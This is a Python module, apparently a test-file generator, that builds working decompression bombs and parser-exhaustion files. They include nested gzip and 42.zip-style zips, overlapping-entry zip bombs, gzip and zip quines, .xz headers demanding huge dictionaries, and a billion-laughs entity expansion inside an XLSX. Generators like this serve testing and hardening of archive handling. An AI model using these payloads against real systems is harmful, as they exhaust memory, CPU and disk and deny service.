"""Files that try to take time, memory or disk without end: bombs, quines, overlapping entries. Each is written piece by
piece, so that making one takes little of any. Standard library only."""
import lzma
import struct
import zlib

MIB = 1 << 20
LOCAL, CENTRAL, END, END64, LOCATOR64 = 0x04034B50, 0x02014B50, 0x06054B50, 0x06064B50, 0x07064B50
ALL32 = 0xFFFFFFFF
DOS_TIME, DOS_DATE = 0x6000, 0x5A21


# ---- CRC-32 of repetitions: crc(a + b) from crc(a), crc(b) and len(b), by squaring the matrix of one zero bit


def _times(matrix, vector):
    out, i = 0, 0
    while vector:
        if vector & 1:
            out ^= matrix[i]
        vector >>= 1
        i += 1
    return out


def _zeros_matrix(bits):
    """The matrix that `bits` zero bits apply to a CRC register."""
    power = [0xEDB88320] + [1 << i for i in range(31)]
    result = [1 << i for i in range(32)]
    while bits:
        if bits & 1:
            result = [_times(power, v) for v in result]
        power = [_times(power, v) for v in power]
        bits >>= 1
    return result


def crc_repeat(block, times):
    """crc32(block * times)"""
    one, matrix = zlib.crc32(block), _zeros_matrix(len(block) * 8)
    crc, power, length_crc, n = 0, matrix, one, times
    # crc(x^2) = M(crc(x)) ^ crc(x), as in exponentiation by squaring
    while n:
        if n & 1:
            crc = _times(power, crc) ^ length_crc
        length_crc = _times(power, length_crc) ^ length_crc
        power = [_times(power, v) for v in power]
        n >>= 1
    return crc


def crc_join(a, b, b_length):
    return _times(_zeros_matrix(b_length * 8), a) ^ b


class Repeated:
    """before + block * times + after as one raw deflate stream: the block is compressed once and its bytes repeated."""

    def __init__(self, block, times, before=b'', after=b'', level=9):
        def deflate(data, last):
            packer = zlib.compressobj(level, zlib.DEFLATED, -15)
            return packer.compress(data) + packer.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)

        self.pieces = [(deflate(before, False), 1), (deflate(block, False), times), (deflate(after, True), 1)]
        self.packed = sum(len(p) * n for p, n in self.pieces)
        self.size = len(before) + len(block) * times + len(after)
        middle = crc_join(zlib.crc32(before), crc_repeat(block, times), len(block) * times)
        self.crc = crc_join(middle, zlib.crc32(after), len(after))

    def write(self, out):
        for piece, times in self.pieces:
            many = max(1, MIB // max(len(piece), 1))
            whole = piece * min(many, times)
            for _ in range(times // many):
                out.write(whole)
            out.write(piece * (times % many))


GZIP_HEADER = b'\x1f\x8b\x08\0\0\0\0\0\x02\xff'


def write_gz(out, stream):
    out.write(GZIP_HEADER)
    stream.write(out)
    out.write(struct.pack('<II', stream.crc, stream.size & ALL32))


class Collect:
    def __init__(self):
        self.parts = []

    def write(self, data):
        self.parts.append(data)

    def bytes(self):
        return b''.join(self.parts)


def gz_bytes(stream):
    out = Collect()
    write_gz(out, stream)
    return out.bytes()


def gz_nested(size, depth):
    """`size` zero bytes (whole 16 MiB), compressed `depth` times."""
    data = gz_bytes(Repeated(bytes(16 * MIB), size // (16 * MIB)))
    for _ in range(depth - 1):
        data = gz_bytes(Repeated(data, 1))
    return data


# ---- zip


class ZipWriter:
    """A zip written front to back. Entries: bytes, or a Repeated stream; zip64 where it must."""

    def __init__(self, out):
        self.out, self.at, self.directory, self.count = out, 0, [], 0

    def _put(self, data):
        self.out.write(data)
        self.at += len(data)

    def add(self, name, content, method=8):
        if isinstance(content, bytes):
            crc, size = zlib.crc32(content), len(content)
            packed = content
            if method == 8:
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed = packer.compress(content) + packer.flush()
            packed_size = len(packed)
        else:
            crc, size, packed_size, method = content.crc, content.size, content.packed, 8
        at = self.at
        big = size >= ALL32 or packed_size >= ALL32
        extra = struct.pack('<HHQQ', 1, 16, size, packed_size) if big else b''
        self._put(local_header(name, method, crc, packed_size, size, extra))
        if isinstance(content, bytes):
            self._put(packed)
        else:
            content.write(self.out)
            self.at += packed_size
        self.directory.append(central_header(name, method, crc, packed_size, size, at))
        self.count += 1

    def finish(self):
        central = b''.join(self.directory)
        end = self.at
        self._put(central)
        if self.count >= 0xFFFF or end >= ALL32:
            where = self.at
            self._put(
                struct.pack(
                    '<IQHHIIQQQQ', END64, 44, 45, 45, 0, 0, self.count, self.count, len(central), end
                )
                + struct.pack('<IIQI', LOCATOR64, 0, where, 1)
            )
        count = min(self.count, 0xFFFF)
        self._put(
            struct.pack('<IHHHHIIH', END, 0, 0, count, count, len(central), min(end, ALL32), 0)
        )


def local_header(name, method, crc, packed, size, extra=b''):
    big = bool(extra)
    return (
        struct.pack(
            '<IHHHHHIIIHH',
            LOCAL,
            45 if big else 20,
            0,
            method,
            DOS_TIME,
            DOS_DATE,
            crc,
            ALL32 if big else packed,
            ALL32 if big else size,
            len(name),
            len(extra),
        )
        + name
        + extra
    )


def central_header(name, method, crc, packed, size, at):
    fields = b''
    if size >= ALL32 or packed >= ALL32:
        fields += struct.pack('<QQ', size, packed)
        size = packed = ALL32
    if at >= ALL32:
        fields += struct.pack('<Q', at)
        at = ALL32
    extra = struct.pack('<HH', 1, len(fields)) + fields if fields else b''
    return (
        struct.pack(
            '<IHHHHHHIIIHHHHHII',
            CENTRAL,
            45,
            45,
            0,
            method,
            DOS_TIME,
            DOS_DATE,
            crc,
            packed,
            size,
            len(name),
            len(extra),
            0,
            0,
            0,
            0o100644 << 16,
            at,
        )
        + name
        + extra
    )


def zip_of(entries):
    out = Collect()
    z = ZipWriter(out)
    for name, content in entries:
        z.add(name, content)
    z.finish()
    return out.bytes()


def zip_nested(bottom_size, levels, branches, beside=()):
    """As 42.zip: zips in zips, `branches` wide and `levels` deep, with `bottom_size` zero bytes in each leaf.
    `beside`: entries of the outermost one."""
    data = zip_of([(b'0.dll', Repeated(bytes(16 * MIB), bottom_size // (16 * MIB)))])
    for level in range(levels):
        entries = [(b'lib %x.zip' % i, data) for i in range(branches)]
        if level == levels - 1:
            entries = [beside[0], *entries, *beside[1:]] if beside else entries
        data = zip_of(entries)
    return data


def zip_overlapping(entries, kernel_size, last=()):
    """Every entry holds the kernel: its data begins with stored blocks that quote the local headers of the entries
    behind it (David Fifield, "A better zip bomb", 2019, quoted overlap). `last`: ordinary entries behind them."""
    kernel = Repeated(bytes(MIB), kernel_size // MIB)
    body = Collect()
    kernel.write(body)
    data, crc, size = body.bytes(), kernel.crc, kernel.size
    headers, packed = [], len(data)
    for i in range(entries):  # from the innermost outwards
        name = b'%06d' % (entries - 1 - i)
        header = local_header(name, 8, crc, packed, size)
        headers.append((name, header, crc, packed, size))
        # The next one out quotes this header in a stored block.
        packed += 5 + len(header)
        crc = crc_join(zlib.crc32(header), crc, size)
        size += len(header)
    out, directory, at = [], [], 0
    for name, header, crc, packed, size in reversed(headers):
        if out:
            out.append(struct.pack('<BHH', 0, len(header), len(header) ^ 0xFFFF))
            at += 5
        directory.append(central_header(name, 8, crc, packed, size, at))
        out.append(header)
        at += len(header)
    out.append(data)
    at += len(data)
    for name, content in last:
        header = local_header(name, 0, zlib.crc32(content), len(content), len(content))
        directory.append(central_header(name, 0, zlib.crc32(content), len(content), len(content), at))
        out += [header, content]
        at += len(header) + len(content)
    central = b''.join(directory)
    out += [central, struct.pack('<IHHHHIIH', END, 0, 0, len(directory), len(directory), len(central), at, 0)]
    return b''.join(out)


# ---- quines (Russ Cox, "Zip Files All The Way Down", 2010): a deflate stream that prints what it stands in


def _bits(codes):
    """(value, bits, most significant first?) in deflate's order, padded to whole bytes."""
    out, n = 0, 0
    for value, width, huffman in codes:
        for i in range(width):
            bit = value >> (width - 1 - i if huffman else i) & 1
            out |= bit << n
            n += 1
    return out.to_bytes((n + 7) // 8, 'little'), n


def _length_code(length):
    if length == 258:
        return 285, 0, 0
    base, extra = 3, 0
    for code in range(257, 285):
        if code > 264 and (code - 261) % 4 == 0:
            extra += 1
        if length < base + (1 << extra):
            return code, extra, length - base
        base += 1 << extra
    raise ValueError(length)


def _distance_code(distance):
    base, extra = 1, 0
    for code in range(30):
        if code > 3 and code % 2 == 0:
            extra += 1
        if distance < base + (1 << extra):
            return code, extra, distance - base
        base += 1 << extra
    raise ValueError(distance)


def _match(length, distance):
    code, extra, value = _length_code(length)
    out = [(code - 256, 7, True) if code < 280 else (code - 280 + 0xC0, 8, True), (value, extra, False)]
    code, extra, value = _distance_code(distance)
    return out + [(code, 5, True), (value, extra, False)]


EMPTY_BLOCK = [(2, 3, False), (0, 7, True)]  # not last, fixed codes, end of block


def _repeat(n, last=False):
    """Five bytes that print the last n again (any number of bytes if `last`)."""
    start, end = [(3 if last else 2, 3, False)], [(0, 7, True)]
    if last:
        whole, rest = divmod(n, 258)
        lengths = [258] * whole + [rest]
        if whole and rest < 3:
            lengths[-2:] = [200, 58 + rest]
        return _bits(start + [c for length in lengths for c in _match(length, n)] + end)[0]
    for lengths in [(n,)] + [(a, n - a) for a in range(3, n - 2)]:
        codes = start + [c for length in lengths for c in _match(length, n)] + end
        for padding in range(4):
            packed, bits = _bits(codes + EMPTY_BLOCK * padding)
            if bits == 40:
                return packed
    raise ValueError('no five bytes repeat %d' % n)


def _literal(units):
    n = units if isinstance(units, int) else len(units)
    return struct.pack('<BHH', 0, n, n ^ 0xFFFF)


def _quine_stream(prefix, suffix):
    p = _repeat(len(prefix) + 5)
    lp, l0, l1, l4 = _literal(len(prefix) + 5), _literal(0), _literal(5), _literal(20)
    r4 = _repeat(20)
    probe = len(_repeat(len(suffix) + 5, last=True))
    last = _repeat(len(suffix) + probe, last=True)
    ls = _literal(len(suffix) + len(last))
    code = lp + prefix + lp + p + l1 + p + l1 + l1 + l4 + p + l1 + l1 + l4 + r4
    code += l4 + r4 + l4 + r4 + l4 + r4
    code += l4 + r4 + l0 + l0 + ls + r4 + l0 + l0 + ls + last + suffix + last
    return code


def _solve(file_of):
    """The c with crc32(file_of(c)) == c: CRC is affine in c, so 32 equations over GF(2). None if there is none."""
    zero = zlib.crc32(file_of(0))
    rows = [0] * 32  # row i: which bits of c flip bit i of crc ^ c; bit 32: the right side
    for j in range(32):
        column = zlib.crc32(file_of(1 << j)) ^ zero ^ (1 << j)
        for i in range(32):
            rows[i] |= (column >> i & 1) << j
    for i in range(32):
        rows[i] |= (zero >> i & 1) << 32
    pivots = []
    for j in range(32):
        found = next((k for k in range(len(pivots), 32) if rows[k] >> j & 1), None)
        if found is None:
            continue
        at = len(pivots)
        rows[at], rows[found] = rows[found], rows[at]
        for k in range(32):
            if k != at and rows[k] >> j & 1:
                rows[k] ^= rows[at]
        pivots.append(j)
    if any(rows[k] for k in range(len(pivots), 32)):
        return None
    c = 0
    for k, j in enumerate(pivots):
        c |= (rows[k] >> 32 & 1) << j
    return c


def gzip_quine():
    """Decompresses to itself."""
    for stamp in range(1000):
        prefix = struct.pack('<BBBBIBB', 0x1F, 0x8B, 8, 8, stamp, 0, 255) + b'qq\0'
        length = len(prefix) + len(_quine_stream(prefix, bytes(8))) + 8

        def file_of(c):
            suffix = struct.pack('<II', c, length)
            return prefix + _quine_stream(prefix, suffix) + suffix

        crc = _solve(file_of)
        if crc is not None:
            return file_of(crc)
    raise ValueError('no quine')


def zip_quine(copies=1):
    """Its only entry is itself; with `copies` its directory lists that entry several times."""
    name = b'bomb.zip'
    # 258 bytes can be repeated by an instruction of five bytes; fewer, down to 36, cannot.
    extra = struct.pack('<HH', 0x7171, 258 - 5 - 30 - len(name) - 4)
    extra += bytes(258 - 5 - 30 - len(name) - 4)
    for stamp in range(1000):

        def build(c, packed, size):
            prefix = struct.pack(
                '<IHHHHHIIIHH', LOCAL, 20, 0, 8, stamp, DOS_DATE, c, packed, size, len(name), len(extra)
            )
            prefix += name + extra
            central = (
                struct.pack(
                    '<IHHHHHHIIIHHHHHII',
                    CENTRAL, 20, 20, 0, 8, stamp, DOS_DATE, c, packed, size, len(name), 0, 0, 0, 0, 0, 0,
                )
                + name
            ) * copies
            end = struct.pack('<IHHHHIIH', END, 0, 0, copies, copies, len(central), len(prefix) + packed, 0)
            suffix = central + end
            stream = _quine_stream(prefix, suffix)
            return prefix + stream + suffix, len(stream)

        whole, packed = build(0, 0, 0)
        crc = _solve(lambda c: build(c, packed, len(whole))[0])
        if crc is not None:
            return build(crc, packed, len(whole))[0]
    raise ValueError('no quine')


# ---- xz


def xz_with_dictionary(content, dictionary_bits):
    """A good .xz whose header asks for a dictionary of 2^dictionary_bits bytes (12 to 31)."""
    data = bytearray(lzma.compress(content, preset=1))
    size = (data[12] + 1) * 4
    header = data[12 : 12 + size]
    at = bytes(header).index(b'\x21\x01')  # LZMA2, one byte of properties
    header[at + 2] = (dictionary_bits - 12) * 2
    header[-4:] = struct.pack('<I', zlib.crc32(bytes(header[:-4])))
    data[12 : 12 + size] = header
    return bytes(data)


# ---- documents


def billion_laughs_xlsx(text):
    laughs = ''.join(
        '<!ENTITY lol%d "%s">' % (i, ('&lol%d;' % (i - 1)) * 10) for i in range(1, 10)
    )
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol0 "lol">%s]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>' % (laughs, text)
    )
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    rels = (
        '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="%s" Target="%s"/></Relationships>'
    )
    workbook = (
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    return zip_of(
        [
            (b'[Content_Types].xml', types.encode()),
            (b'_rels/.rels', (rels % (relation + 'officeDocument', 'xl/workbook.xml')).encode()),
            (b'xl/workbook.xml', workbook.encode()),
            (b'xl/_rels/workbook.xml.rels', (rels % (relation + 'worksheet', 'worksheets/sheet1.xml')).encode()),
            (b'xl/worksheets/sheet1.xml', sheet.encode()),
        ]
    )
